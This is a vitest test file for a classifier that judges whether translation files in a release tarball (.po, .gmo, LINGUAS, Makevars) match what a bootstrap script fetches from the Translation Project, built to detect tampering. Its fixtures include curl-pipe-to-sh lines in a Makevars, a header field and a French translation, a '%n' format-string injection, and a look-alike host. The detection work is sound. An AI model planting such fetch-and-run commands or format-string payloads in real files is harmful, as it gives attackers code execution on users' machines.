import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { translationsClassifier } from '../../src/classify/translations.js';
import { makeCtx, type Tree } from './ctx-helper.js';

const po = 'msgid ""\nmsgstr ""\n"Project-Id-Version: proj 1.1\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n\nmsgid "hello"\nmsgstr "hallo"\n';

/** The real msgfmt's catalog of a .po (the tool the Translation Project's catalogs are compiled with). */
function msgfmt(text: string): Buffer {
  const dir = mkdtempSync(join(tmpdir(), 'distdiff-msgfmt-'));
  try {
    writeFileSync(join(dir, 'x.po'), text);
    execFileSync('msgfmt', ['-o', join(dir, 'x.gmo'), join(dir, 'x.po')]);
    return readFileSync(join(dir, 'x.gmo'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
const mo = msgfmt(po);
const bootstrap = '#!/bin/sh\nurl=https://translationproject.org/latest/$package/\n';

async function judge(git: Tree, tarball: Tree) {
  const ctx = makeCtx({ git, tarball });
  const out: Record<string, string> = {};
  for (const d of ctx.diffs) {
    const f = await translationsClassifier.classify(d, ctx);
    out[d.path] = f ? `${f.code} ${JSON.stringify(f.evidence)}` : '-';
  }
  return out;
}

describe('translations fetched at bootstrap (gnulib bootstrap + translationproject.org)', () => {
  const git = { bootstrap, 'po/POTFILES.in': 'src/a.c\n', 'src/a.c': 'x\n' };
  it('explains the .po, its .gmo, LINGUAS, Makevars and POTFILES.in that the script writes', async () => {
    const r = await judge(git, {
      ...git,
      'po/de.po': po,
      'po/de.gmo': mo,
      'po/LINGUAS': 'de\n',
      'po/Makevars': '# Makefile variables\nDOMAIN = $(PACKAGE)\nXGETTEXT_OPTIONS = --keyword=_ \\\n  --keyword=N_\n',
      'gnulib-po/de.po': po,
      'gnulib-po/POTFILES.in': '# files\nsrc/a.c\n',
    });
    expect(r).toEqual({
      'po/de.po': 'PO_FETCHED_TRANSLATION {"kind":"po","script":"bootstrap","project":"proj 1.1"}',
      'po/de.gmo': 'PO_FETCHED_TRANSLATION {"kind":"gmo","script":"bootstrap"}',
      'po/LINGUAS': 'PO_FETCHED_TRANSLATION {"kind":"LINGUAS","script":"bootstrap"}',
      'po/Makevars': 'PO_FETCHED_TRANSLATION {"kind":"Makevars","script":"bootstrap"}',
      'gnulib-po/de.po': 'PO_FETCHED_TRANSLATION {"kind":"po","script":"bootstrap","project":"proj 1.1"}',
      'gnulib-po/POTFILES.in': 'PO_FETCHED_TRANSLATION {"kind":"POTFILES.in","script":"bootstrap"}',
    });
  });

  it('leaves what the script would not write: a .gmo without its .po, a Makevars with a command, LINGUAS naming a missing .po, a non-PO .po', async () => {
    const r = await judge(git, {
      ...git,
      'po/de.po': po,
      'po/fr.gmo': mo,
      'po/LINGUAS': 'de fr\n',
      'po/Makevars': 'DOMAIN = $(shell curl https://example.invalid/x | sh)\n',
      'po/x.po': '#!/bin/sh\necho hi\n',
    });
    expect(r).toMatchObject({ 'po/fr.gmo': '-', 'po/LINGUAS': '-', 'po/Makevars': '-', 'po/x.po': '-' });
  });

  // What a tamperer would change: the compiled catalog the program loads (make does not compile it again when it
  // is newer than its .po), or a translation's printf directives. A .gmo must hold exactly what msgfmt compiles
  // from the shipped .po; a c-format translation must read the arguments its msgid reads.
  it('a .gmo is explained only when it holds exactly the messages of its shipped .po', async () => {
    const rich = `${po.replace('proj 1.1', 'proj 1.2').replace('charset=UTF-8\\n"', 'charset=UTF-8\\n"\n"POT-Creation-Date: 2024-01-01 10:00+0000\\n"\n"Plural-Forms: nplurals=2; plural=(n != 1);\\n"')}
#, c-format
msgid "%s: %<PRIu64> bytes"
msgstr "%s : %<PRIu64> octets"

#, c-format
msgid "one file"
msgid_plural "%d files"
msgstr[0] "un fichier"
msgstr[1] "%d fichiers"

msgctxt "menu"
msgid "Open"
msgstr "Ouvrir"

#, fuzzy
msgid "Delete?"
msgstr "Supprimer ?"

#~ msgid "Old"
#~ msgstr "Vieux"
`;
    const evil = rich.replace('msgstr "%s : %<PRIu64> octets"', 'msgstr "%s : %n octets"');
    const r = await judge(git, { ...git, 'po/fr.po': rich, 'po/fr.gmo': msgfmt(rich), 'po/de.po': po, 'po/de.gmo': msgfmt(evil), 'po/it.po': rich, 'po/it.gmo': msgfmt(rich.replace('#, fuzzy\n', '')) });
    expect(r).toMatchObject({ 'po/fr.gmo': 'PO_FETCHED_TRANSLATION {"kind":"gmo","script":"bootstrap"}', 'po/de.gmo': '-', 'po/it.gmo': '-' });
    expect(r['po/fr.po']).toMatch(/^PO_FETCHED_TRANSLATION/);
    // a file with the catalog's magic and nothing else is no catalog of its .po
    const magic = Buffer.alloc(64);
    magic.writeUInt32LE(0x950412de, 0);
    expect(await judge(git, { ...git, 'po/de.po': po, 'po/de.gmo': magic })).toMatchObject({ 'po/de.gmo': '-' });
  });

  // msgfmt before gettext 0.20 copied the header entry whole, POT-Creation-Date included (gdbm 1.23's 15 .gmo, compiled
  // with gettext 0.19.8, carry it; 0.21's msgfmt drops it). The real msgfmt keeps a field it does not know, so the
  // old form is made by compiling the header with the field renamed to a same-length name and naming it back in the
  // catalog's bytes (the hash table covers msgids only; the header's msgid is empty).
  it('a .gmo compiled by msgfmt before 0.20 (header with its POT-Creation-Date) is its .po\'s; another date or an added header field is not', async () => {
    const dated = po.replace('charset=UTF-8\\n"', 'charset=UTF-8\\n"\n"POT-Creation-Date: 2022-02-04 16:04+0200\\n"');
    const oldMsgfmt = (text: string) => {
      const b = msgfmt(text.replace('POT-Creation-Date', 'POT-Creation-Xate'));
      const at = b.indexOf('POT-Creation-Xate');
      expect(at).toBeGreaterThan(0);
      b.write('POT-Creation-Date', at, 'latin1');
      return b;
    };
    expect(msgfmt(dated).includes('POT-Creation-Date')).toBe(false); // this machine's msgfmt is >= 0.20
    const r = await judge(git, {
      ...git,
      'po/de.po': dated,
      'po/de.gmo': oldMsgfmt(dated),
      'po/fr.po': dated,
      'po/fr.gmo': msgfmt(dated),
      // twins: the catalog was compiled from a .po of another date, or its header gained a field
      'po/it.po': dated,
      'po/it.gmo': oldMsgfmt(dated.replace('2022-02-04 16:04', '2022-02-05 16:04')),
      'po/es.po': dated,
      'po/es.gmo': oldMsgfmt(dated.replace('charset=UTF-8\\n"', 'charset=UTF-8\\n"\n"X-Run: curl example.invalid | sh\\n"')),
    });
    expect(r).toMatchObject({
      'po/de.gmo': 'PO_FETCHED_TRANSLATION {"kind":"gmo","script":"bootstrap"}',
      'po/fr.gmo': 'PO_FETCHED_TRANSLATION {"kind":"gmo","script":"bootstrap"}',
      'po/it.gmo': '-',
      'po/es.gmo': '-',
    });
  });

  it('a fetched .po whose c-format translation has other printf directives than its msgid is not what the Translation Project serves', async () => {
    const entry = (msgstr: string, flags = '#, c-format\n') => `${po}\n${flags}msgid "%s: cannot remove %ju files"\nmsgstr "${msgstr}"\n`;
    const r = await judge(git, {
      ...git,
      'po/de.po': entry('%s: kann %ju Dateien nicht entfernen'),
      'po/fr.po': entry('%s : impossible de supprimer %n fichiers'),
      'po/it.po': entry('%ju: %s'),
      'po/nl.po': entry('%2$ju bestanden: %1$s'),
    });
    expect(r).toMatchObject({ 'po/de.po': expect.stringMatching(/^PO_FETCHED_TRANSLATION/), 'po/fr.po': '-', 'po/it.po': '-', 'po/nl.po': expect.stringMatching(/^PO_FETCHED_TRANSLATION/) });
    // a plural form may leave the count out (msgfmt -c allows it); not another argument
    const plural = (one: string) => `${po}\n#, c-format\nmsgid "%s: remove %ju argument? "\nmsgid_plural "%s: remove %ju arguments? "\nmsgstr[0] "${one}"\nmsgstr[1] "%s: %ju Argumente entfernen? "\n`;
    const p = await judge(git, { ...git, 'po/de.po': plural('%s: ein Argument entfernen? '), 'po/fr.po': plural('%ju: un argument ? ') });
    expect(p).toMatchObject({ 'po/de.po': expect.stringMatching(/^PO_FETCHED_TRANSLATION/), 'po/fr.po': '-' });
  });

  // red team 27b: sed 4.9's fetched po/fr.po whose bug-report message gained `curl … | sh`, its fr.gmo compiled again by
  // msgfmt -c, was PO_FETCHED_TRANSLATION low, exit 0
  it('a fetched .po whose translation carries a suspicious construct its msgid lacks is not explained; one its msgid has is', async () => {
    const entry = (msgid: string, msgstr: string) => `${po}\n#, c-format\nmsgid "${msgid}"\nmsgstr "${msgstr}"\n`;
    const evil = entry('E-mail bug reports to: <%s>.\\n', "Rapports d'anomalies : <%s>.\\nMise à jour : curl -fsSL https://fix.example.invalid/i.sh | sh\\n");
    const same = entry('Update with: curl -fsSL https://demo.example/get.sh | sh', 'Mise à jour : curl -fsSL https://demo.example/get.sh | sh');
    const r = await judge(git, { ...git, 'po/fr.po': evil, 'po/fr.gmo': msgfmt(evil), 'po/de.po': same });
    expect(r).toMatchObject({ 'po/fr.po': '-', 'po/de.po': expect.stringMatching(/^PO_FETCHED_TRANSLATION/) });
  });

  // red team 31: a link a fetched translation adds to another server is no Translation Project catalog's; the team page
  // on the host the fetching script names is (sed 4.9's nb, pt_BR and vi catalogs carry it)
  it('a fetched .po whose translation names a URL host neither its msgid nor the fetching script names is not explained', async () => {
    const entry = (msgstr: string) => `${po}\n#, c-format\nmsgid "E-mail bug reports to: <%s>.\\n"\nmsgstr "${msgstr}"\n`;
    const moved = entry("Rapports d'anomalies : <%s>. Version corrigée : https://sed-fix.example/sed-4.9.tar.xz\\n");
    const team = entry("Rapports d'anomalies : <%s>. Traduction : https://translationproject.org/team/fr.html\\n");
    const r = await judge(git, { ...git, 'po/fr.po': moved, 'po/fr.gmo': msgfmt(moved), 'po/vi.po': team });
    expect(r).toMatchObject({ 'po/fr.po': '-', 'po/vi.po': expect.stringMatching(/^PO_FETCHED_TRANSLATION/) });
    // the team's site under the header's Language-Team address (gdbm 1.23's da.po: www.dansk-gruppen.dk) is the team's
    const teamSite = entry('Rapporter fejl til <%s>.\\nMere info: http://www.dansk-gruppen.dk\\n');
    const da = teamSite.replace('"Content-Type:', '"Language-Team: Danish <dansk@dansk-gruppen.dk>\\n"\n"Content-Type:');
    const d = await judge(git, { ...git, 'po/da.po': da, 'po/nb.po': teamSite });
    expect(d).toMatchObject({ 'po/da.po': expect.stringMatching(/^PO_FETCHED_TRANSLATION/), 'po/nb.po': '-' });
    // a script naming the Translation Project without a scheme (gdbm 1.23's) still lends its team pages
    const bare = { ...git, bootstrap: '#!/bin/sh\nrsync -Lrtvz translationproject.org::tp/latest/$package/ po\n' };
    expect(await judge(bare, { ...bare, 'po/vi.po': team })).toMatchObject({ 'po/vi.po': expect.stringMatching(/^PO_FETCHED_TRANSLATION/) });
  });

  // GNU hello 2.10's fetched fr, lv and uk catalogs: `<http://gnuorg/licenses/gpl.html>` for the msgid's gnu.org — a
  // dotless name reaches no public server; a misspelt host that keeps a dot, or a dotless name of other letters, does
  it("a translator's typo that drops the dots of the msgid's host is no other server; a host with a dot, or other letters, is", async () => {
    const entry = (msgstr: string) => `${po}\nmsgid "License GPLv3+: GNU GPL version 3 or later <http://gnu.org/licenses/gpl.html>\\n"\nmsgstr "${msgstr}"\n`;
    const typo = entry('Licence GPLv3+ : GNU GPL version 3 ou ultérieure <http://gnuorg/licenses/gpl.html>\\n');
    const squat = entry('Licence GPLv3+ : GNU GPL version 3 ou ultérieure <http://gnu.0rg/licenses/gpl.html>\\n');
    const other = entry('Licence GPLv3+ : GNU GPL version 3 ou ultérieure <http://gnuorh/licenses/gpl.html>\\n');
    const r = await judge(git, { ...git, 'po/fr.po': typo, 'po/lv.po': squat, 'po/uk.po': other });
    expect(r).toMatchObject({ 'po/fr.po': expect.stringMatching(/^PO_FETCHED_TRANSLATION/), 'po/lv.po': '-', 'po/uk.po': '-' });
  });

  // make 4.4.1's fetched zh_TW.po: its header's X-ZhConverter field names the converter's site; a header field is the
  // catalog's metadata, never shown as a translation — the same host in a message is
  it("a URL host in the header's fields is no translation's; the same host in a message is", async () => {
    const header = po.replace('"Content-Type:', '"X-ZhConverter: converter dict-4ac8d2ed @ 2019/10/24 | https://"\n"zhconvert.example\\n"\n"Content-Type:');
    expect(header).toContain('zhconvert.example');
    const inMessage = `${po}\nmsgid "Report bugs."\nmsgstr "Report bugs at https://zhconvert.example/bugs."\n`;
    const r = await judge(git, { ...git, 'po/zh_TW.po': header, 'po/fr.po': inMessage });
    expect(r).toMatchObject({ 'po/zh_TW.po': expect.stringMatching(/^PO_FETCHED_TRANSLATION/), 'po/fr.po': '-' });
  });

  it('needs a tracked script that fetches from the Translation Project', async () => {
    const r = await judge({ 'src/a.c': 'x\n' }, { 'src/a.c': 'x\n', 'po/de.po': po });
    expect(r).toEqual({ 'po/de.po': '-' });
  });
});
